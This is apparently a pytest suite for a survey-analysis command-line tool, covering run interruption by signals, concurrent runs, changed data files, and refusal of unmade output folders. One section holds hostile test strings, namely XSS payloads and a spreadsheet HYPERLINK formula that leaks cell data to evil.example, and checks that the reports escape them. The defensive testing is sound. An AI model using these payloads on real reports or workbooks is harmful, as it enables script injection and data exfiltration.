"""Run safety with real processes (issue 12): `survey run` on the demo parameter set, stopped by
SIGTERM / SIGINT / SIGKILL to the parent while a kernel runs; concurrent runs of one set;
a data file replaced between notebooks; output folders the tool did not make.

The notebooks are two tiny stand-ins (``ingest`` and ``summary``: they write a file, then
sleep for ``$SURVEY_TEST_SLEEP`` seconds, and may append to ``$SURVEY_TEST_CHANGE``) so that
each stop lands at a known point; the processes (parent, pool worker, kernels) are the real
ones.  Every process of a run carries ``SURVEY_TEST_TOKEN`` in its environment, which is how
the tests find what is left (a /proc scan: kernels live in their own sessions)."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import nbformat
import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and prctl: Linux")

NOTEBOOK_CODE = """\
import os, pathlib, time
pathlib.Path(output_dir, "started-{name}").write_text(str(os.getpid()))
change = os.environ.get("SURVEY_TEST_CHANGE")
if change and "{name}" == "ingest":
    with open(change, "ab") as fh:
        fh.write(b"\\0")
time.sleep(float(os.environ.get("SURVEY_TEST_SLEEP_{upper}", "0")))
pathlib.Path(output_dir, "done-{name}.txt").write_text("ok")
"""
PARAMS = ("spec = None\ndata_dir = None\nperiod = None\ndomains = None\ncrime_types = None\npublication = None\n"
          "cap_rule = None\noutput_dir = 'x'\nlanguage = 'en'\nseed = 1\ncompare = None\n")


def _notebooks(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("ingest", "summary"):
        nb = nbformat.v4.new_notebook()
        nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
        cell = nbformat.v4.new_code_cell(PARAMS)
        cell.metadata["tags"] = ["parameters"]
        nb.cells = [cell, nbformat.v4.new_code_cell(NOTEBOOK_CODE.format(name=name, upper=name.upper()))]
        nbformat.write(nb, folder / f"{name}.ipynb")
    return folder


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """A project: a small synthetic survey, the spec, the demo parameter set as committed, the
    stand-in notebooks."""
    from survey.synth import synth

    root = tmp_path_factory.mktemp("safety")
    (root / "pyproject.toml").write_text("")
    synth(root / "data" / "synthetic", households=1000, seed=1)
    (root / "specs").mkdir()
    shutil.copy(ROOT / "specs" / "synthetic.yaml", root / "specs" / "synthetic.yaml")
    (root / "parameters").mkdir()
    shutil.copy(ROOT / "parameters" / "demo.yaml", root / "parameters" / "demo.yaml")
    _notebooks(root / "nb")
    return root


def _start(project: Path, *args, sleep_ingest=0.0, sleep_summary=0.0, change=None, cmd="run",
           sets=("parameters/demo.yaml",)):
    token = uuid.uuid4().hex
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"), SURVEY_TEST_TOKEN=token,
               SURVEY_TEST_SLEEP_INGEST=str(sleep_ingest), SURVEY_TEST_SLEEP_SUMMARY=str(sleep_summary))
    if change:
        env["SURVEY_TEST_CHANGE"] = str(change)
    proc = subprocess.Popen([sys.executable, "-m", "survey.cli", cmd, *sets, "--notebooks", "ingest,summary",
                             "--notebook-dir", str(project / "nb"), "--root", str(project), "--no-progress", *args],
                            cwd=project, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    proc.token = token
    return proc


def _with_token(token: str) -> list[int]:
    out = []
    needle = f"SURVEY_TEST_TOKEN={token}".encode()
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            with open(f"/proc/{entry.name}/environ", "rb") as fh:
                env = fh.read()
            with open(f"/proc/{entry.name}/stat", "rb") as fh:
                state = fh.read().rsplit(b")", 1)[1].split()[0]
        except OSError:
            continue
        if needle in env.split(b"\0") and state != b"Z":
            out.append(int(entry.name))
    return out


def _wait_for(pred, timeout=120.0, what="condition"):
    t0 = time.monotonic()
    while time.monotonic() - t0 < timeout:
        if pred():
            return time.monotonic() - t0
        time.sleep(0.1)
    raise AssertionError(f"timed out after {timeout} s waiting for {what}")


def _published(project: Path) -> Path:
    """A previously published demo run (the tool's marker and a sentinel file)."""
    from survey._atomic import mark

    demo = project / "outputs" / "demo"
    if demo.exists():
        shutil.rmtree(demo)
    demo.mkdir(parents=True)
    mark(demo, "run", run="demo")
    (demo / "sentinel.txt").write_text("the previous run")
    return demo


def _temporaries(project: Path) -> list[str]:
    return sorted(p.name for p in (project / "outputs").glob(".demo.*") if p.is_dir())


def _started(project: Path, name: str) -> bool:
    return any((project / "outputs").glob(f".demo.tmp-*/started-{name}"))


@pytest.mark.parametrize("sig, when, code", [
    (signal.SIGTERM, "ingest", 143),
    (signal.SIGINT, "ingest", 130),
    (signal.SIGTERM, "summary", 143),
    (signal.SIGKILL, "ingest", -9),
    (signal.SIGKILL, "summary", -9),
])
def test_a_stopped_run_leaves_no_process_and_publishes_nothing(project, sig, when, code):
    demo = _published(project)
    proc = _start(project, sleep_ingest=60 if when == "ingest" else 0, sleep_summary=60)
    try:
        _wait_for(lambda: _started(project, when), what=f"the {when} notebook to start")
        assert len(_with_token(proc.token)) >= 3  # parent, worker, kernel (and the queue manager)
        os.kill(proc.pid, sig)
        proc.wait(timeout=60)
        gone = _wait_for(lambda: not _with_token(proc.token), timeout=30, what="every process of the run to end")
    finally:
        if proc.poll() is None:
            proc.kill()
        for p in _with_token(proc.token):
            os.kill(p, signal.SIGKILL)
    err = proc.stderr.read()
    assert proc.returncode == code, err
    assert gone < 30
    if sig != signal.SIGKILL:
        assert err.strip().count("\n") == 0 and f"stopped by {signal.Signals(sig).name}" in err, err
        assert "no output folder was replaced" in err
    # nothing was published: the previous run is still there, untouched
    assert (demo / "sentinel.txt").read_text() == "the previous run"
    assert not (demo / "manifest.json").exists()
    time.sleep(1.0)  # nothing publishes late either
    assert (demo / "sentinel.txt").exists() and not (demo / "done-summary.txt").exists()
    assert _temporaries(project) == []
    result = json.loads((project / "outputs" / "_logs" / "demo.result.json").read_text())
    assert result["status"] == "stopped", result


def test_next_start_removes_what_a_killed_run_left(project):
    """A temporary folder of a dead process (as a kill -9 of the worker leaves it) is removed
    when the next run of the set starts; the next run publishes normally."""
    _published(project)
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    left = project / "outputs" / f".demo.tmp-{dead.pid}-abc"
    left.mkdir()
    (left / "ingest.ipynb").write_text("{}")
    proc = _start(project)
    out, err = proc.communicate(timeout=300)
    assert proc.returncode == 0, out + err
    assert not left.exists()
    assert _temporaries(project) == []
    demo = project / "outputs" / "demo"
    assert (demo / "done-summary.txt").exists() and not (demo / "sentinel.txt").exists()
    from survey._atomic import is_ours

    assert is_ours(demo)
    result = json.loads((project / "outputs" / "_logs" / "demo.result.json").read_text())
    assert result["status"] == "succeeded" and result["pid"] != dead.pid


def test_batch_sigint_replaces_no_folder(project, tmp_path):
    """SIGINT to the parent of `survey batch --jobs 2` (two sets): neither folder is replaced."""
    demo = _published(project)
    other = project / "parameters" / "demo2.yaml"
    raw = yaml.safe_load((project / "parameters" / "demo.yaml").read_text())
    raw["name"] = "demo2"
    other.write_text(yaml.safe_dump(raw))
    proc = _start(project, "--jobs", "2", cmd="batch", sleep_ingest=60,
                  sets=("parameters/demo.yaml", "parameters/demo2.yaml"))
    try:
        _wait_for(lambda: _started(project, "ingest")
                  and any((project / "outputs").glob(".demo2.tmp-*/started-ingest")), what="both runs")
        os.kill(proc.pid, signal.SIGINT)
        proc.wait(timeout=60)
        _wait_for(lambda: not _with_token(proc.token), timeout=30, what="every process to end")
    finally:
        if proc.poll() is None:
            proc.kill()
    err = proc.stderr.read()
    assert proc.returncode == 130, err
    assert "2 run(s) stopped" in err and "no output folder was replaced" in err
    assert (demo / "sentinel.txt").exists() and not (project / "outputs" / "demo2").exists()
    assert not list((project / "outputs").glob(".demo*.tmp-*"))


def test_a_second_concurrent_run_fails_at_once(project):
    _published(project)
    first = _start(project, sleep_ingest=30)
    try:
        _wait_for(lambda: _started(project, "ingest"), what="the first run")
        t0 = time.monotonic()
        second = _start(project)
        out, err = second.communicate(timeout=120)
        took = time.monotonic() - t0
        assert second.returncode == 1, out + err
        assert "another run is writing it" in err and took < 60
        assert len([ln for ln in err.splitlines() if ln.startswith("survey:")]) == 1, err
        # the first run's log and result are its own
        result = json.loads((project / "outputs" / "_logs" / "demo.result.json").read_text())
        assert result["status"] == "running" and result["pid"] != second.pid
    finally:
        first.send_signal(signal.SIGTERM)
        first.wait(timeout=60)


def test_a_data_file_changed_between_notebooks_fails_the_run(project):
    demo = _published(project)
    data = project / "data" / "synthetic" / "persons.sav"
    before = data.read_bytes()
    try:
        proc = _start(project, change=data)
        out, err = proc.communicate(timeout=300)
    finally:
        data.write_bytes(before)
    assert proc.returncode == 1, out + err
    assert f"{data}: changed while the run was going" in err
    assert (demo / "sentinel.txt").exists() and not (demo / "manifest.json").exists()
    assert _temporaries(project) == []


@pytest.mark.parametrize("output_dir, why", [
    (".", "it is the working directory"),  # the project itself (the tests run it from the project)
    ("data", "not made by this tool"),
    ("outputs", "publication root"),
    ("parameters", "not made by this tool"),
])
def test_an_output_folder_the_tool_did_not_make_is_refused(project, output_dir, why):
    (project / "outputs").mkdir(exist_ok=True)
    (project / "outputs" / "_logs").mkdir(exist_ok=True)
    raw = yaml.safe_load((project / "parameters" / "demo.yaml").read_text())
    raw["output_dir"] = output_dir
    raw["name"] = "hostile"
    f = project / "parameters" / "hostile.yaml"
    f.write_text(yaml.safe_dump(raw))
    listing = sorted(p.name for p in project.iterdir())
    try:
        proc = _start(project, sets=("parameters/hostile.yaml",))
        out, err = proc.communicate(timeout=120)
    finally:
        f.unlink()
    assert proc.returncode == 2, out + err
    assert len(err.strip().splitlines()) == 1 and why in err, err
    assert sorted(p.name for p in project.iterdir()) == listing
    assert (project / "data" / "synthetic" / "persons.sav").exists()


def test_an_absolute_folder_or_a_symlink_is_refused(project, tmp_path):
    unrelated = tmp_path / "unrelated"
    unrelated.mkdir()
    (unrelated / "keep.txt").write_text("mine")
    link = project / "outputs" / "linked"
    (project / "outputs").mkdir(exist_ok=True)
    if not link.exists():
        link.symlink_to(unrelated, target_is_directory=True)
    for target, why in ((unrelated, "not made by this tool"), (link, "symbolic link")):
        raw = yaml.safe_load((project / "parameters" / "demo.yaml").read_text())
        raw.update(output_dir=str(target), name="hostile")
        f = project / "parameters" / "hostile.yaml"
        f.write_text(yaml.safe_dump(raw))
        proc = _start(project, sets=("parameters/hostile.yaml",))
        out, err = proc.communicate(timeout=120)
        f.unlink()
        assert proc.returncode == 2 and why in err, out + err
        assert (unrelated / "keep.txt").read_text() == "mine" and len(list(unrelated.iterdir())) == 1
    link.unlink()


# ---------------------------------------------------------------------------------------------
# hostile spec strings in the outputs
# ---------------------------------------------------------------------------------------------
HOSTILE_TITLE = '<script>alert("title")</script>'
HOSTILE_SOURCE = '[click](javascript:alert(1)) <img src=x onerror=alert(2)>'
HOSTILE_PERIOD = '=HYPERLINK("http://evil.example/?"&A1,"2024")'


def test_hostile_spec_strings_are_text_in_the_html_report(project, tmp_path):
    """The real ingest and summary notebooks' first lines quote the spec's title, period and
    source: in the HTML report they are text, never markup or a javascript: link."""
    from survey.spec import load_yaml

    raw = load_yaml((project / "specs" / "synthetic.yaml").read_text())  # YAML 1.2: `on:` is a key
    raw.update(title=HOSTILE_TITLE, source=HOSTILE_SOURCE, period="<b onmouseover=alert(3)>2024</b>",
               licence="<iframe src=javascript:alert(4)>")
    for f in raw["files"].values():
        f["path"] = str(project / "data" / "synthetic" / Path(f["path"]).name)
    spec = tmp_path / "hostile.yaml"
    spec.write_text(yaml.safe_dump(raw, sort_keys=False))
    params = tmp_path / "hostile-run.yaml"
    params.write_text(yaml.safe_dump({"name": "hostile-run", "spec": str(spec), "output_dir":
                                      str(tmp_path / "out" / "hostile-run"), "notebooks": ["ingest"]}))
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    proc = subprocess.run([sys.executable, "-m", "survey.cli", "run", str(params), "--root", str(project),
                           "--notebook-dir", str(ROOT / "notebooks"), "--no-progress"], cwd=project, env=env,
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    page = (tmp_path / "out" / "hostile-run" / "ingest.html").read_text()
    assert "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;" in page or \
        "&lt;script&gt;alert(\"title\")&lt;/script&gt;" in page
    assert 'alert("title")</script>' not in page and "<b onmouseover" not in page
    for cell in ("<script>alert", "<img src=x", "<iframe", 'href="javascript:'):
        assert cell not in page, cell


def test_markdown_outputs_are_made_safe_when_the_report_is_written(tmp_path):
    """Even Markdown a notebook displayed without :func:`survey.report.md` (raw HTML, a
    javascript: link) is text in the report."""
    from survey.report import notebook_to_html

    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("x")
    cell.outputs = [nbformat.v4.new_output("display_data", data={
        "text/markdown": f"**{HOSTILE_TITLE}** {HOSTILE_SOURCE}", "text/plain": "x"})]
    nb.cells = [cell]
    nbformat.write(nb, tmp_path / "r.ipynb")
    page = notebook_to_html(tmp_path / "r.ipynb", tmp_path / "r.html").read_text()
    assert "<script>alert" not in page and "<img src=x" not in page and 'href="javascript:' not in page
    assert "&lt;script&gt;" in page and "#blocked:" in page


def test_formula_cells_are_neutralized_in_the_workbook_and_csv(tmp_path):
    """OWASP CSV injection: text cells starting with = + - @ tab or CR get a leading quote in the
    Excel workbook and the CSV files; numbers (negative ones too) stay numbers."""
    import openpyxl
    import pandas as pd

    from survey.report import neutral_frame, write_workbook

    table = pd.DataFrame({"indicator": ["prevalence"] * 4, "survey": ["s"] * 4,
                          "period": [HOSTILE_PERIOD, "+1", "@SUM(A1)", "2024"],
                          "crime_label": ["-2+3", "\tx", "\rcmd", "burglary"],
                          "estimate": [-1.5, 2.0, 3.0, 4.0], "n": [10, 20, 30, 40], "cap_rule": ["", "", "", ""]})
    meta = {"title": "=1+1", "survey": "s", "source": "@cmd", "licence": "-x", "definitions": {}}
    path = write_workbook(table, meta, tmp_path / "t.xlsx", run={"name": "r", "parameters": {"period": "=x"}})
    wb = openpyxl.load_workbook(path)
    ws = wb["prevalence"]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, [c.value for c in r])) for r in ws.iter_rows(min_row=2)]
    assert [r["period"] for r in rows] == ["'" + HOSTILE_PERIOD, "'+1", "'@SUM(A1)", "2024"]
    labels = [r["crime_label"] for r in rows]  # (openpyxl reads a CR back as a line feed)
    assert labels[:2] == ["'-2+3", "'\tx"] and labels[2].startswith("'") and labels[3] == "burglary"
    assert [r["estimate"] for r in rows] == [-1.5, 2.0, 3.0, 4.0]  # numbers untouched
    notes = {r[0].value: r[1].value for r in wb["notes"].iter_rows(min_row=2, max_row=6)}
    assert notes["Period"] == "'" + HOSTILE_PERIOD and notes["Source"] == "'@cmd" and notes["Licence"] == "'-x"
    assert all(not isinstance(c.value, str) or not c.value.startswith(("=", "+", "-", "@"))
               for sheet in wb for row in sheet.iter_rows() for c in row)
    csv = tmp_path / "t.csv"
    neutral_frame(table.drop(index=2)).to_csv(csv, index=False)
    back = pd.read_csv(csv)
    assert back["period"].tolist() == ["'" + HOSTILE_PERIOD, "'+1", "2024"]
    assert back["estimate"].tolist() == [-1.5, 2.0, 4.0]


def test_a_cell_timeout_names_the_cell_and_the_time(project):
    raw = yaml.safe_load((project / "parameters" / "demo.yaml").read_text())
    raw.update(name="slow", timeout=3)
    f = project / "parameters" / "slow.yaml"
    f.write_text(yaml.safe_dump(raw))
    try:
        proc = _start(project, sleep_ingest=30, sets=("parameters/slow.yaml",))
        out, err = proc.communicate(timeout=300)
    finally:
        f.unlink()
    assert proc.returncode == 1, out + err
    line = next(ln for ln in err.splitlines() if ln.startswith("survey: FAILED"))
    assert "notebook ingest, cell 'import os, pathlib, time'" in line, line
    assert "CellTimeoutError: A cell timed out while it was being executed, after 3 seconds" in line, line
    assert "---" not in line and "cell unknown" not in line
    assert not (project / "outputs" / "slow").exists()
    assert json.loads((project / "outputs" / "_logs" / "slow.result.json").read_text())["status"] == "failed"


def test_synth_and_demo_refuse_folders_they_did_not_make(tmp_path, monkeypatch, capsys):
    from survey._atomic import is_ours, mark
    from survey.cli import main

    monkeypatch.chdir(tmp_path)
    keep = tmp_path / "mine"
    keep.mkdir()
    (keep / "thesis.docx").write_text("years of work")
    assert main(["demo", "--out", str(keep)]) == 2
    assert main(["synth", "--out", str(keep), "--households", "700"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 2 and all("not made by this tool" in ln for ln in err), err
    assert sorted(p.name for p in keep.iterdir()) == ["thesis.docx"]
    # a published run is never the engine demo's folder
    run = tmp_path / "outputs" / "demo"
    run.mkdir(parents=True)
    mark(run, "run", run="demo")
    (run / "indicators.csv").write_text("a\n1\n")
    assert main(["demo", "--out", str(run)]) == 2
    assert "run folder of this tool" in capsys.readouterr().err
    assert (run / "indicators.csv").exists()
    # by default the demo writes its own folder, not outputs/demo, and may replace it again
    assert main(["demo"]) == 0 and main(["demo"]) == 0
    capsys.readouterr()
    assert (tmp_path / "outputs" / "_engine-demo" / "estimates.csv").exists()
    assert is_ours(tmp_path / "outputs" / "_engine-demo") and (run / "indicators.csv").exists()
    # synth may replace its own earlier output (twice), never with temporaries left
    assert main(["synth", "--out", "syn", "--households", "700"]) == 0
    assert main(["synth", "--out", "syn", "--households", "700"]) == 0
    assert (tmp_path / "syn" / "truth.json").exists() and not list(tmp_path.glob(".syn.*"))
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "households.sav").write_text("someone else's")
    (tmp_path / "other" / "truth.json").write_text('{"generator": "not this tool"}')
    (tmp_path / "other" / "notes.txt").write_text("mine")
    assert main(["synth", "--out", "other", "--households", "700"]) == 2
    assert (tmp_path / "other" / "notes.txt").exists()


def test_a_parquet_struct_column_is_one_line_exit_2(tmp_path):
    """A declared variable holding nested values (a Parquet struct): `survey validate` exits 2
    with one line naming the file and the column (not 3, 'unexpected error')."""
    import pandas as pd
    import pyarrow as pa
    import pyarrow.parquet as pq

    from survey.spec import load_yaml

    corpus = ROOT / "tests" / "bad_inputs"
    hh = pd.read_spss(corpus / "_data" / "households.sav", convert_categoricals=False)
    hh.attrs = {}
    t = pa.Table.from_pandas(hh, preserve_index=False)
    i = t.schema.get_field_index("hhid")
    t = t.set_column(i, "hhid", pa.array([{"a": int(v), "b": "x"} for v in hh["hhid"]]))
    pq.write_table(t, tmp_path / "households.parquet")
    raw = load_yaml((corpus / "valid" / "spec.yaml").read_text())
    raw["files"]["households"]["path"] = str(tmp_path / "households.parquet")
    raw["files"]["incidents"]["path"] = str(corpus / "_data" / "incidents.sav")
    spec = tmp_path / "spec.yaml"
    spec.write_text(yaml.safe_dump(raw, sort_keys=False))
    proc = subprocess.run([sys.executable, "-m", "survey.cli", "validate", str(spec)], capture_output=True,
                          text=True, env=dict(os.environ, PYTHONPATH=str(ROOT / "src")), timeout=120)
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert len(lines) == 1 and "households.parquet" in lines[0] and "'hhid'" in lines[0], lines
    assert "nested values" in lines[0]
